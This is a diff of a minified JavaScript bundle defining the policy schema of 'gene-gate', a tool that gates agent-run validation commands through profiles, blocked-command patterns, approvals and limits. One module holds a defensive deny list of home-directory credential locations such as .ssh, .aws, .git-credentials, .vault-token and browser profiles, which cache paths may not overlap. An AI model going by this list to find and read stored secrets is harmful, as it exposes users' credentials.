-ys"in f?n().strictObject(o(f.keys)).exactOptional():f.schema.unwrap().exactOptional()]))}function h(r,u,f){const d=new Map(
-Object.entries(u));for(const[S,k]of Object.entries(f)){const v="keys"in(r[S]??{});d.set(S,v?{...d.get(S),...k}:k)}return Object.
-fromEntries(d)}function c(r,u){return({value:f,issues:d})=>{const{branches:S,...k}=f,v=Object.fromEntries(Object.entries(
-k).filter(([b])=>b in r));for(const[b,_]of Object.entries(S)){const{error:y}=u.safeParse(h(r,v,_));for(const{path:m,message:p}of y?.
-issues??[])d.push({code:"custom",path:["branches",b,...m],input:_,message:p})}}}},32710:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.commandKeys=void 0;function e(){const d=s(7723);return e=function(){return d},d}function n(){
-const d=s(13970);return n=function(){return d},d}function i(){const d=s(39763);return i=function(){return d},d}function a(){
-const d=s(88220);return a=function(){return d},d}function w(){const d=s(32854);return w=function(){return d},d}function g(){
-const d=s(99535);return g=function(){return d},d}function o(){const d=s(72720);return o=function(){return d},d}function h(){
-const d=s(74580);return h=function(){return d},d}function c(){const d=s(92328);return c=function(){return d},d}const r=e().
-strictObject({name:e().string().trim().min(1).describe("Name of the pattern in the report."),layer:e().union([e().literal(
-1),e().literal(2),e().literal(3)],{error:"expected 1, 2 or 3"}).describe("Layer of the pattern: 1 dangerous patterns, 2 \
-paths, 3 allowed commands."),reason:e().string().trim().min(1,{error:"expected a sentence that says why"}).describe("Why\
- the command is blocked; shown to its author."),regex:e().string().min(1).superRefine((d,S)=>{const k=(0,o().compileLinear)(
-d);"error"in k&&S.addIssue({code:"custom",message:k.error})}).describe("Regular expression in RE2 syntax (linear time), \
-matched against each simple command with its words joined by one space."),match:e().array(e().string()).min(1,{error:"ex\
-pected at least one command"}).describe("Commands that the pattern must match."),not_match:e().array(e().string()).min(1,
-{error:"expected at least one command"}).describe("Commands that the pattern must not match.")}),u=(0,g().key)({schema:e().
-array(r),default:[],description:"Commands that the `workspace` profile blocks in addition to the built-in patterns.",strictness:c().
-moreIsStricter,example:[{name:"no_production",layer:1,reason:"Validations stay away from production.",regex:"\\bprod(ucti\
-on)?\\b",match:["grep x config/prod.json"],not_match:["grep product docs/shop.md"]}]}),f=t.commandKeys={profile:(0,g().key)(
-{schema:e().enum(i().PROFILE_NAMES),default:"evolver",description:"The rules that decide whether a command may run.",strictness:(0,c().
-fromLoosest)(i().GENE_PROFILES),input:{name:"profile",schema:e().enum(i().GENE_PROFILES)}}),mode:(0,g().key)({schema:n().
-riskSchema,default:"write",description:"Highest risk that the `curated` profile accepts.",strictness:(0,c().fromLoosest)(
-n().riskSchema.options.toReversed())}),allow_dangerous:(0,g().key)({schema:e().boolean(),default:!1,description:"Whether\
- `mode: dangerous` accepts dangerous commands; without it, they are blocked.",strictness:(0,c().fromLoosest)([!0,!1])}),
-allowed_roots:(0,g().key)({schema:e().array(e().string().min(1)),default:[],description:"Directories that every path of \
-a command must be in, in the `curated` profile; if empty, paths are not checked.",strictness:(0,c().emptyIsLoosest)((d,S)=>d===
-S||(0,w().isWithin)(d,S))}),workspace:(0,g().key)({schema:h().repositoryPath,default:".",description:"Directory that eve\
-ry path of a command must be in, in the `workspace` profile; commands still start at the root of the repository.",strictness:(0,c().
-incomparable)("Two directories can be unrelated.")}),disabled_packs:(0,g().key)({schema:e().array(e().string().min(1)),default:[],
-description:"Packs of families that are disabled in the `curated` and `workspace` profiles: archives, build, files, git,\
- javascript, network, packages, python, system, text, other, or a pack that `families` defines.",strictness:c().moreIsStricter}),
-experimental:(0,g().key)({schema:e().array(e().string().min(1)),default:[],description:"Families whose commands require \
-very strong confirmation in the `curated` profile. A family of maturity `experimental_only` is accepted only if listed.",
-strictness:(0,c().incomparable)("An entry requires more approvals for one family, and allows another family that is bloc\
-ked otherwise.")}),programs:(0,g().key)({schema:e().array(e().string().min(1)),default:[],description:"Programs that the\
- default profile may run besides node, npm and npx, by the name of their family: bun, cargo, deno, go, make, mypy, php, \
-phpunit, pnpm, pytest, python, ruff, uv, yarn, or one that `families` defines. See docs/commands.md#other-programs.",strictness:c().
-fewerIsStricter,example:["pytest"]}),tool_flags:(0,g().key)({schema:a().addedFlagsSchema,default:{},description:"Flags o\
-f newer versions that the tables of the gate lack, by the name of the tool or program.",strictness:c().fewerEntriesAreStricter,
-example:{eslint:[{flag:"--new-flag",value:"none"}]}}),make_variables:(0,g().key)({schema:e().array(e().string().regex(/^[A-Za-z_][\w.-]*$/,
-"expected the name of a variable")),default:[],description:"Variables that a command may set for make, besides V and VER\
-BOSE: recipes put them into shell text, and the programs that they start read them.",strictness:c().fewerIsStricter,example:[
-"TESTS"]}),families:(0,g().key)({schema:e().array(a().familySchema),default:[],description:"Programs in addition to the \
+l can be in one merge group.")})},39763:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.SEVERITIES=t.PROOF_OUTCOMES=
+t.PROOF_LEVELS=t.PROFILE_NAMES=t.ISOLATION_LEVELS=t.HARMS=t.GENE_PROFILES=t.ENGINES=t.CONFIRMATIONS=t.BLAST_SEVERITIES=t.
+ASSET_TYPES=void 0;const s=t.ASSET_TYPES=["Gene","Capsule","EvolutionEvent","ValidationReport","Mutation","AntiGene"],e=t.
+BLAST_SEVERITIES=["within_limit","approaching_limit","exceeded","critical_overrun","hard_cap_breach"],n=t.CONFIRMATIONS=
+["standard","strong","very_strong"],c=t.ISOLATION_LEVELS=["none","process_group","namespaces"],r=t.HARMS=["danger","brok\
+en","bookkeeping"],y=t.PROOF_OUTCOMES=["fails_without_change","fails_when_new_code_fails","not_run","nothing_shown","no_\
+subject"],g=t.PROOF_LEVELS=["none","any","reverted"],o=t.SEVERITIES=["error","warning","notice"],l=t.ENGINES=["engine 1.\
+29","engine 1.94","hub 1.94","engine 2"],m=t.GENE_PROFILES=["evolver","validator"],a=t.PROFILE_NAMES=[...m,"curated","wo\
+rkspace"]},54062:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.enforcementOn=e,t.settingOf=s;function s(n){
+return typeof n=="string"?{level:n}:n}function e(n,c){if(typeof c=="string")return{mode:c};const{mode:r,until:y}=c;return y<
+n?{mode:"block"}:{mode:r,until:y}}},99535:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.inputSchemas=
+g,t.key=n,t.keysByPath=y,t.objectOf=r,t.section=c;function e(){const o=s(7723);return e=function(){return o},o}function n(o){
+const{schema:l,description:m,strictness:a,input:i,example:p}=o,h=l.default(o.default).describe(m);return{schema:p===void 0?
+h:h.meta({examples:[p]}),strictness:a,input:i}}function c(o,l,m=a=>a){const a={};return{schema:m(r(l)).prefault(a).describe(
+o),keys:l}}function r(o){const l=Object.entries(o).map(([m,{schema:a}])=>[m,a]);return e().strictObject(Object.fromEntries(
+l))}function y(o){const l=Object.entries(o).flatMap(([m,a])=>"keys"in a?Object.entries(a.keys).map(([i,p])=>[`${m}.${i}`,
+p]):[[m,a]]);return new Map(l)}function g(o){const l=[...y(o).values()].flatMap(({input:m})=>m??[]);return Object.fromEntries(
+l.map(({name:m,schema:a})=>[m,a]))}},72720:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.compileLinear=
+c;function e(){const r=s(86750);return e=function(){return r},r}const n=1e3;function c(r,{ignoreCase:y,multiline:g,dotAll:o}={}){
+if(r.length>n)return{error:`is longer than ${n} characters`};try{const l=e().RE2JS.compile(r,(y?e().RE2JS.CASE_INSENSITIVE:
+0)|(g?e().RE2JS.MULTILINE:0)|(o?e().RE2JS.DOTALL:0));return{matches:m=>l.test(m)}}catch(l){return{error:l.message}}}},74580:function(A,t,s){
+Object.defineProperty(t,"__esModule",{value:!0}),t.repositoryPath=t.repositoryGlob=t.homeFolder=void 0;function e(){const l=s(
+7723);return e=function(){return l},l}function n(){const l=s(32854);return n=function(){return l},l}const c=t.repositoryPath=
+e().string().min(1).refine(l=>(0,n().normalise)(l)!==void 0,{error:"expected a path from the root of the repository, wit\
+hout a leading / and without .."}).refine(l=>l.trim()===l,{error:"expected a path without blanks around it"}),r=t.repositoryGlob=
+c.refine(l=>!/^!(?!\()|^["'`].*["'`]$/.test(l),{error:"expected a glob without a negation and without quotes around it"}),
+y=".ssh .gnupg .aws .azure .kube .docker .netrc .npmrc .yarnrc .yarnrc.yml .pypirc .gitconfig .git-credentials .password\
+-store .mozilla .thunderbird .pki .terraform.d .vault-token .bashrc .bash_history .profile .zshrc .zsh_history .m2/setti\
+ngs.xml .m2/settings-security.xml .gradle/gradle.properties .cargo/credentials .cargo/credentials.toml .config/gh .confi\
+g/gcloud .config/git .config/hub .config/op .config/rclone .config/doctl .config/containers .config/chromium .config/goo\
+gle-chrome .local/share/keyrings .nuget/NuGet .gem/credentials .composer/auth.json".split(" "),g=t.homeFolder=e().string().
+regex(/^[^/\\\0]+(?:\/[^/\\\0]+)*$/,"expected a path below the home directory, such as .cache/x").refine(l=>!l.split("/").
+some(m=>m==="."||m===".."),{error:"expected a path without `.` and `..`"}).refine(l=>!y.some(m=>o(m,l)||o(l,m)),{error:"\
+expected a cache; programs store credentials or settings here"});function o(l,m){return`${m}/`.startsWith(`${l}/`)}},11160:function(A,t,s){
+Object.defineProperty(t,"__esModule",{value:!0}),t.policySchema=t.policyInputsSchema=t.POLICY_KEYS=void 0,t.withEntry=w;
+function e(){const j=s(28940);return e=function(){return j},j}function n(){const j=s(7723);return n=function(){return j},
+j}function c(){const j=s(87952);return c=function(){return j},j}function r(){const j=s(99535);return r=function(){return j},
+j}function y(){const j=s(2056);return y=function(){return j},j}function g(){const j=s(17997);return g=function(){return j},
+j}function o(){const j=s(21822);return o=function(){return j},j}function l(){const j=s(10729);return l=function(){return j},
+j}function m(){const j=s(93300);return m=function(){return j},j}function a(){const j=s(32710);return a=function(){return j},
+j}function i(){const j=s(52491);return i=function(){return j},j}function p(){const j=s(39432);return p=function(){return j},
+j}function h(){const j=s(8801);return h=function(){return j},j}function _(){const j=s(96025);return _=function(){return j},
+j}function v(){const j=s(92328);return v=function(){return j},j}const b=["error","warning"],d={...a().commandKeys,approvals:o().
+approvals,fail_on:(0,r().key)({schema:n().enum(b),default:"error",description:"The minimum severity of a finding that fa\
+ils the gate.",strictness:(0,v().fromLoosest)(b),input:{name:"fail-on",schema:n().enum(b)}}),...h().ruleKeys,..._().runningKeys,
+assets:l().assets,stores:l().storesKey,limits:p().limits,blast_radius:p().blastRadius,agent_files:g().agentFiles,a2a:y().
+a2a,ignores:h().ignores},S={extends:i().extendsKey,...d,branches:(0,m().branchesKey)(d)},k=t.policySchema=(0,r().objectOf)(
+S).check(x).check((0,m().checkEntries)(d,(0,r().objectOf)(d).check(x))).describe("gene-gate policy: .github/gene-gate.ym\
+l");function w(j,N){return(0,m().mergeEntry)(d,j,N)}const f=t.POLICY_KEYS=(0,r().keysByPath)(S),u=t.policyInputsSchema=n().
+object((0,r().inputSchemas)(S)).partial(),E=80;function x({value:j,issues:N}){const{families:T}=j;for(const[R,{name:M}]of T.
+entries()){if(T.findIndex(({name:G})=>G===M)===R)continue;const F=["families",R,"name"];N.push({code:"custom",path:F,input:M,
+message:"this family is described twice"})}const $=[["disabled_packs",()=>(0,c().packsOf)(T),"a pack of families"],["pro\
+grams",()=>(0,c().programNames)(T),"a program that the default profile can run"],["tool_flags",()=>(0,c().namesWithFlags)(
+T),"a tool or program with a table"],["experimental",()=>[...(0,c().registryOf)(T).keys()],"a family"]];for(const[R,M,F]of $){
+const G=j[R],K=Array.isArray(G)?G:Object.keys(G),B=K.length===0?[]:M();for(const[Z,z]of K.entries()){if(typeof z!="strin\
+g"||B.includes(z))continue;const V=(0,e().closest)(z.slice(0,E),B),q=`expected the name of ${F}; did you mean ${V}?`,Y=[
+R,Array.isArray(G)?Z:z];N.push({code:"custom",path:Y,input:z,message:q})}}}},2056:function(A,t,s){Object.defineProperty(
+t,"__esModule",{value:!0}),t.a2a=void 0;function e(){const i=s(7723);return e=function(){return i},i}function n(){const i=s(
+2833);return n=function(){return i},i}function c(){const i=s(38942);return c=function(){return i},i}function r(){const i=s(
+39763);return r=function(){return i},i}function y(){const i=s(99535);return y=function(){return i},i}function g(){const i=s(
+92328);return g=function(){return i},i}const o=e().int().positive(),l=e().number().min(0).max(1),m=e().strictObject({repository:e().
+string().regex(/^[\w.-]+\/[\w.-]+$/,{error:"expected owner/name"}).describe("The repository that the workflow runs for, \
+as `owner/name`."),workflow:e().string().regex(/^([\w.-]+\/[\w.-]+\/)?\.github\/workflows\/[^@\s]+\.ya?ml(@refs\/\S+)?$/,
+{error:"expected .github/workflows/FILE.yml, or owner/name/.github/workflows/FILE.yml@REF"}).describe("The workflow that\
+ signs: a file of the repository, or a reusable workflow of another one with its ref."),ref:e().string().regex(/^refs\/\S+$/,
+{error:"expected a full ref such as refs/heads/main"}).default("refs/heads/main").describe("The ref that the workflow ru\
+ns for."),issuer:e().url().default("https://token.actions.githubusercontent.com").describe("The issuer of the workflow\u2019s\
+ identity."),policies:e().array(e().string().regex(n().DIGEST,{error:"expected sha256: and 64 digits"})).min(1).optional().
+describe("Digests of the accepted policies. Default: only the policy of the promotion."),max_age_days:e().int().positive().
+default(90).describe("Days after which a signed decision no longer counts.")}),a=t.a2a=(0,y().section)("What `gene-gate \
+promote` requires of an asset.",{min_score:(0,y().key)({schema:l,default:.7,description:"Minimum score of an outcome tha\
+t can be promoted.",strictness:g().higherIsStricter}),max_files:(0,y().key)({schema:o,default:5,description:"Maximum num\
+ber of files that a promoted Capsule touched.",strictness:g().lowerIsStricter}),max_lines:(0,y().key)({schema:o,default:200,
+description:"Maximum number of added and deleted lines of a promoted Capsule.",strictness:g().lowerIsStricter}),min_success_streak:(0,y().
+key)({schema:o,default:2,description:"Consecutive successes, counted from the events, that a promotion requires.",strictness:g().
+higherIsStricter}),confidence_factor:(0,y().key)({schema:l,default:.6,description:"Factor by which the confidence of a p\
+romoted Capsule is multiplied.",strictness:g().lowerIsStricter}),engines:(0,y().key)({schema:e().array(e().enum(r().ENGINES)).
+min(1),default:["hub 1.94"],description:"Versions of the reference engine, and of the validators of its hub, that must a\
+ccept every command of a Gene; a candidate that one of them refuses is quarantined. The `validator` profile has the same\
+ rules. See docs/promotion.md#which-version-accepts-a-command.",strictness:g().moreIsStricter,example:["hub 1.94","engin\
+e 1.94"]}),require_evidence:(0,y().key)({schema:c().evidenceLevelSchema,default:"gate",description:"Minimum evidence tha\
+t the commands of a Gene passed: `claimed`, `gate` or `signed`, which also applies to Capsules and EvolutionEvents. See \
+docs/promotion.md#evidence.",strictness:(0,g().fromLoosest)(c().EVIDENCE_LEVELS)}),require_proof:(0,y().key)({schema:e().
+enum(r().PROOF_LEVELS),default:"none",description:"The proof that one command of a Gene must have, which then runs twice\
+: that it fails when the change is taken back (`reverted`), also when its new code fails (`any`), or `none`. See docs/co\
+mmands.md#fails-without-the-change.",strictness:(0,g().fromLoosest)(r().PROOF_LEVELS)}),attestation:(0,y().key)({schema:e().
+array(m),default:[],description:"Workflows whose signed promotions count as evidence for `gene-gate promote --attestatio\
+n`; without an entry, none does.",strictness:g().fewerIsStricter,example:[{repository:"agents/genes",workflow:".github/w\
+orkflows/gene-gate.yml"}]})})},17997:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.agentFiles=void 0;
+function e(){const a=s(7723);return e=function(){return a},a}function n(){const a=s(2833);return n=function(){return a},
+a}function c(){const a=s(99535);return c=function(){return a},a}function r(){const a=s(74580);return r=function(){return a},
+a}function y(){const a=s(92328);return y=function(){return a},a}const g=["off","warn","approve","error"],o=e().strictObject(
+{accept:e().string().regex(n().DIGEST,{error:"expected sha256: and 64 digits"}).describe("The digest of a command or set\
+ting, as `gene-gate audit` prints it."),reason:e().string().trim().min(1).describe("Shown with each finding."),expires:e().
+iso.date({error:"expected a date such as 2027-01-31"}).describe("The last day (UTC); after it, the findings count again.")});
+function l(a){return Math.min(g.indexOf(a),g.indexOf("approve"))}const m=t.agentFiles=(0,c().section)("Files from which \
+agents and editors run commands automatically.",{level:(0,c().key)({schema:e().enum(g),default:"warn",description:"What \
+happens if a change edits commands that run automatically: `warn` shows it, `approve` asks `approvals.gate` people about\
+ all that is more than a notice, `error` fails for what is dangerous or cannot be read, `off` reads none of the files.",
+strictness:(0,y().ordered)((a,i)=>l(i)-l(a))}),include:(0,c().key)({schema:e().array(r().repositoryGlob).min(1),default:[
+"**"],description:"Globs of the files that are read, of all that a format names.",strictness:y().moreIsStricter}),exclude:(0,c().
+key)({schema:e().array(r().repositoryGlob),default:[],description:"Globs of excluded files, such as templates.",strictness:y().
+fewerIsStricter,example:["templates/**"]}),rules:(0,c().key)({schema:e().array(o),default:[],description:"Commands and s\
+ettings that a person accepts until a day, each with the digest of its content and of the scripts behind it: an edit of \
+either counts again.",strictness:y().fewerIsStricter,example:[{accept:`sha256:${"0".repeat(64)}`,reason:"our formatter",
+expires:"2027-06-30"}]})})},21822:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.approvals=void 0;function e(){
+const o=s(7723);return e=function(){return o},o}function n(){const o=s(99535);return n=function(){return o},o}function c(){
+const o=s(74580);return c=function(){return o},o}function r(){const o=s(92328);return r=function(){return o},o}const y=e().
+int().min(1).max(10),g=t.approvals=(0,n().section)("Who approves commands that require confirmation.",{strong:(0,n().key)(
+{schema:y,default:1,description:"Number of people who must approve a dangerous command before it runs.",strictness:r().higherIsStricter}),
+very_strong:(0,n().key)({schema:y,default:2,description:"Number of people who must approve an experimental command befor\
+e it runs.",strictness:r().higherIsStricter}),gate:(0,n().key)({schema:e().int().min(0).max(10),default:1,description:"N\
+umber of people who must approve a change that weakens the gate. With 0, for a sole maintainer, it gets a warning.",strictness:r().
+higherIsStricter}),people:(0,n().key)({schema:e().array(e().string().min(1)),default:[],description:"Logins whose review\
+s count, if they have write access; an empty list counts everyone with write access.",strictness:(0,r().emptyIsLoosest)(
+(o,l)=>o===l)}),unaffected_by:(0,n().key)({schema:e().array(c().repositoryGlob),default:[],description:"Globs of files o\
+utside the scope of an approval. Do not list files that a command reads.",strictness:r().fewerIsStricter,example:["docs/\
+**","*.md"]})},o=>o.refine(({strong:l,very_strong:m})=>m>=l,{path:["very_strong"],error:"expected at least as many as fo\
+r strong confirmation"}))},10729:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.assets=void 0,t.isCheckoutName=
+l,t.storesKey=void 0;function e(){const i=s(7723);return e=function(){return i},i}function n(){const i=s(32854);return n=
+function(){return i},i}function c(){const i=s(99535);return c=function(){return i},i}function r(){const i=s(74580);return r=
+function(){return i},i}function y(){const i=s(92328);return y=function(){return i},i}const g=["**/{assets/gep,.evolver/g\
+ep,.evomap/assets}/{genes,capsules,anti-genes}*.{json,jsonl}","**/{assets/gep,.evolver/gep,.evomap/assets}/{events,event\
+s.*,external_candidates}.jsonl","**/*.seed.json","**/data/default_genes.json"],o=t.assets=(0,c().section)("Where the rep\
+ository keeps its assets.",{include:(0,c().key)({schema:e().array(r().repositoryGlob).min(1),default:[...g],description:"\
+Globs of the asset files; replaces the default list.",strictness:(0,y().incomparable)("An asset file is audited, and doe\
+s not count towards a blast radius.")}),max_file_bytes:(0,c().key)({schema:e().number().int().positive(),default:16*1024*
+1024,description:"Maximum size of an asset file; a larger file is an error. Of an audit log, the newest records up to th\
+is size are read.",strictness:y().lowerIsStricter})});function l(i){return/^(?!node_modules$)\w[\w.-]{0,99}$/i.test(i)}const m=e().
+strictObject({path:r().repositoryPath.describe("The directory of a store, or an asset file."),root:r().repositoryPath.describe(
+"The directory in which its commands run; `.` is git\u2019s root.").exactOptional(),checkout_as:e().string().refine(l,{error:"\
+expected the name of a directory"}).describe("In place of `root`: the commands run in the directory above the checkout, \
+which has nothing but the checkout, under this name.").exactOptional()}).refine(({root:i,checkout_as:p})=>i===void 0!=(p===
+void 0),{error:"expected either `root` or `checkout_as`"}),a=t.storesKey=(0,c().key)({schema:e().array(m).refine(i=>new Set(
+i.map(({path:p})=>(0,n().normalise)(p))).size===i.length,{error:"expected one root for each path"}),default:[],description:"\
+Where the commands of stores run, if not in the nearest directory above with a package.json, else in git\u2019s root. The lon\
+gest path that contains the asset file counts.",strictness:{...(0,y().baseCounts)(),loosens:()=>!0},example:[{path:"skil\
+ls/evolver/assets/gep",root:"."}]})},93300:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.branchesKey=
+g,t.checkEntries=m,t.mergeEntry=l;function e(){const a=s(23404);return e=function(){return a},a}function n(){const a=s(7723);
+return n=function(){return a},a}function c(){const a=s(99535);return c=function(){return a},a}function r(){const a=s(92328);
+return r=function(){return a},a}const y={compare:(a,i)=>r().moreIsStricter.compare(Object.entries(a),Object.entries(i)),
+combine:(a,i)=>{const p=_=>(0,e().canonicalize)(a[_])===(0,e().canonicalize)(i[_]);return Object.keys(a).every(_=>!(_ in
+i)||p(_))?{value:{...a,...i}}:void 0},loosens:()=>!0};function g(a){return(0,c().key)({schema:n().record(n().string().min(
+1),n().strictObject(o(a))),default:{},description:"Protected branches besides the default branch, by name or glob, with \
+the keys that differ there; only in the policy of the default branch. Of several entries that match, the stricter value \
+of each key applies.",strictness:y,example:{"release/*":{fail_on:"warning"},next:{}}})}function o(a){return Object.fromEntries(
+Object.entries(a).map(([i,p])=>[i,"keys"in p?n().strictObject(o(p.keys)).exactOptional():p.schema.unwrap().exactOptional()]))}
+function l(a,i,p){const h=new Map(Object.entries(i));for(const[_,v]of Object.entries(p)){const b="keys"in(a[_]??{});h.set(
+_,b?{...h.get(_),...v}:v)}return Object.fromEntries(h)}function m(a,i){return({value:p,issues:h})=>{const{branches:_,...v}=p,
+b=Object.fromEntries(Object.entries(v).filter(([d])=>d in a));for(const[d,S]of Object.entries(_)){const{error:k}=i.safeParse(
+l(a,b,S));for(const{path:w,message:f}of k?.issues??[])h.push({code:"custom",path:["branches",d,...w],input:S,message:f})}}}},
+32710:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.commandKeys=void 0;function e(){const h=s(7723);
+return e=function(){return h},h}function n(){const h=s(13970);return n=function(){return h},h}function c(){const h=s(39763);
+return c=function(){return h},h}function r(){const h=s(88220);return r=function(){return h},h}function y(){const h=s(32854);
+return y=function(){return h},h}function g(){const h=s(99535);return g=function(){return h},h}function o(){const h=s(72720);
+return o=function(){return h},h}function l(){const h=s(74580);return l=function(){return h},h}function m(){const h=s(92328);
+return m=function(){return h},h}const a=e().strictObject({name:e().string().trim().min(1).describe("Name of the pattern \
+in the report."),layer:e().union([e().literal(1),e().literal(2),e().literal(3)],{error:"expected 1, 2 or 3"}).describe("\
+Layer of the pattern: 1 dangerous patterns, 2 paths, 3 allowed commands."),reason:e().string().trim().min(1,{error:"expe\
+cted a sentence that says why"}).describe("Why the command is blocked; shown to its author."),regex:e().string().min(1).
+superRefine((h,_)=>{const v=(0,o().compileLinear)(h);"error"in v&&_.addIssue({code:"custom",message:v.error})}).describe(
+"Regular expression in RE2 syntax (linear time), matched against each simple command with its words joined by one space."),
+match:e().array(e().string()).min(1,{error:"expected at least one command"}).describe("Commands that the pattern must ma\
+tch."),not_match:e().array(e().string()).min(1,{error:"expected at least one command"}).describe("Commands that the patt\
+ern must not match.")}),i=(0,g().key)({schema:e().array(a),default:[],description:"Commands that the `workspace` profile\
+ blocks in addition to the built-in patterns.",strictness:m().moreIsStricter,example:[{name:"no_production",layer:1,reason:"\
+Validations stay away from production.",regex:"\\bprod(uction)?\\b",match:["grep x config/prod.json"],not_match:["grep p\
+roduct docs/shop.md"]}]}),p=t.commandKeys={profile:(0,g().key)({schema:e().enum(c().PROFILE_NAMES),default:"evolver",description:"\
+The rules that decide whether a command may run.",strictness:(0,m().fromLoosest)(c().GENE_PROFILES),input:{name:"profile",
+schema:e().enum(c().GENE_PROFILES)}}),mode:(0,g().key)({schema:n().riskSchema,default:"write",description:"Highest risk \
+that the `curated` profile accepts.",strictness:(0,m().fromLoosest)(n().riskSchema.options.toReversed())}),allow_dangerous:(0,g().
+key)({schema:e().boolean(),default:!1,description:"Whether `mode: dangerous` accepts dangerous commands; without it, the\
+y are blocked.",strictness:(0,m().fromLoosest)([!0,!1])}),allowed_roots:(0,g().key)({schema:e().array(e().string().min(1)),
+default:[],description:"Directories that every path of a command must be in, in the `curated` profile; if empty, paths a\
+re not checked.",strictness:(0,m().emptyIsLoosest)((h,_)=>h===_||(0,y().isWithin)(h,_))}),workspace:(0,g().key)({schema:l().
+repositoryPath,default:".",description:"Directory that every path of a command must be in, in the `workspace` profile; c\
+ommands still start at the root of the repository.",strictness:(0,m().incomparable)("Two directories can be unrelated.")}),
+disabled_packs:(0,g().key)({schema:e().array(e().string().min(1)),default:[],description:"Packs of families that are dis\
+abled in the `curated` and `workspace` profiles: archives, build, files, git, javascript, network, packages, python, sys\
+tem, text, other, or a pack that `families` defines.",strictness:m().moreIsStricter}),experimental:(0,g().key)({schema:e().
+array(e().string().min(1)),default:[],description:"Families whose commands require very strong confirmation in the `cura\
+ted` profile. A family of maturity `experimental_only` is accepted only if listed.",strictness:(0,m().incomparable)("An \
+entry requires more approvals for one family, and allows another family that is blocked otherwise.")}),programs:(0,g().key)(
+{schema:e().array(e().string().min(1)),default:[],description:"Programs that the default profile may run besides node, n\
+pm and npx, by the name of their family: bun, cargo, deno, go, make, mypy, php, phpunit, pnpm, pytest, python, ruff, uv,\
+ yarn, or one that `families` defines. See docs/commands.md#other-programs.",strictness:m().fewerIsStricter,example:["py\
+test"]}),tool_flags:(0,g().key)({schema:r().addedFlagsSchema,default:{},description:"Flags of newer versions that the ta\
+bles of the gate lack, by the name of the tool or program.",strictness:m().fewerEntriesAreStricter,example:{eslint:[{flag:"\
+--new-flag",value:"none"}]}}),make_variables:(0,g().key)({schema:e().array(e().string().regex(/^[A-Za-z_][\w.-]*$/,"expe\
+cted the name of a variable")),default:[],description:"Variables that a command may set for make, besides V and VERBOSE:\
+ recipes put them into shell text, and the programs that they start read them.",strictness:m().fewerIsStricter,example:[
+"TESTS"]}),families:(0,g().key)({schema:e().array(r().familySchema),default:[],description:"Programs in addition to the \
 built-in ones. An entry replaces the description, `evolver` or `sandbox`, of the built-in family of the same name. The d\
-efault profile runs those that `programs` names.",strictness:(0,c().incomparable)("A family can be looser or stricter th\
-an the built-in one.")}),patterns:u}},52491:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.extendsKey=
+efault profile runs those that `programs` names.",strictness:(0,m().incomparable)("A family can be looser or stricter th\
+an the built-in one.")}),patterns:i}},52491:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.extendsKey=
 void 0;function e(){const o=s(7723);return e=function(){return o},o}function n(){const o=s(99535);return n=function(){return o},
-o}function i(){const o=s(74580);return i=function(){return o},o}function a(){const o=s(92328);return a=function(){return o},
-o}const w=e().strictObject({repository:e().string().regex(/^[A-Za-z0-9][A-Za-z0-9-]*\/(?!\.{1,2}$)[A-Za-z0-9._-]+$/,{error:"\
+o}function c(){const o=s(74580);return c=function(){return o},o}function r(){const o=s(92328);return r=function(){return o},
+o}const y=e().strictObject({repository:e().string().regex(/^[A-Za-z0-9][A-Za-z0-9-]*\/(?!\.{1,2}$)[A-Za-z0-9._-]+$/,{error:"\
 expected owner/name of a repository on the same server"}).describe("`owner/name` of the repository with the shared polic\
 y, on the same server."),commit:e().string().regex(/^[0-9a-f]{40}$/,{error:"expected a commit: 40 digits from 0-9 and a-\
-f"}).describe("The full commit. A branch or tag can move, so it is not accepted."),path:i().repositoryPath.describe("The\
+f"}).describe("The full commit. A branch or tag can move, so it is not accepted."),path:c().repositoryPath.describe("The\
  path of the policy in that repository."),sha256:e().string().regex(/^[0-9a-f]{64}$/,{error:"expected the SHA-256 of the\
  file: 64 digits from 0-9 and a-f"}).describe("The SHA-256 of the file, from `sha256sum FILE`.")}),g=t.extendsKey=(0,n().
-key)({schema:w.nullable(),default:null,description:"A policy of another repository that this one extends: `repository`, \
-`commit`, `path` and `sha256`. Keys of this file replace its keys. See docs/policy.md#share-a-policy.",strictness:(0,a().
+key)({schema:y.nullable(),default:null,description:"A policy of another repository that this one extends: `repository`, \
+`commit`, `path` and `sha256`. Keys of this file replace its keys. See docs/policy.md#share-a-policy.",strictness:(0,r().
 baseCounts)(),example:{repository:"acme/policies",commit:"0".repeat(40),path:"gene-gate.yml",sha256:"0".repeat(64)}})},39432:function(A,t,s){
-Object.defineProperty(t,"__esModule",{value:!0}),t.limits=t.blastRadius=void 0;function e(){const S=s(7723);return e=function(){
-return S},S}function n(){const S=s(27576);return n=function(){return S},S}function i(){const S=s(32854);return i=function(){
-return S},S}function a(){const S=s(99535);return a=function(){return S},S}function w(){const S=s(74580);return w=function(){
-return S},S}function g(){const S=s(92328);return g=function(){return S},S}const o=1024,h=1024*o,c=1024*h,r=e().number().
-positive().max(86400),u=t.limits=(0,a().section)("Limits of validation commands.",{command_timeout_seconds:(0,a().key)({
-schema:r,default:180,description:"Time limit of a command; a command that exceeds it is stopped and fails.",strictness:g().
-lowerIsStricter,input:{name:"command-timeout-seconds",schema:e().coerce.number().pipe(r)}}),budget_seconds:(0,a().key)({
-schema:r,default:300*60,description:"Time limit of all commands of a run together; commands that have not ended by then \
-fail.",strictness:g().lowerIsStricter,input:{name:"budget-seconds",schema:e().coerce.number().pipe(r)}}),prepare_seconds:(0,a().
-key)({schema:r,default:900,description:"Time limit of all lines of `prepare` together.",strictness:g().lowerIsStricter}),
-slow_command_seconds:(0,a().key)({schema:r,default:60,description:"A command that takes longer is reported with a warnin\
-g.",strictness:g().lowerIsStricter}),output_bytes:(0,a().key)({schema:e().number().int().min(o).max(16*h),default:64*o,description:"\
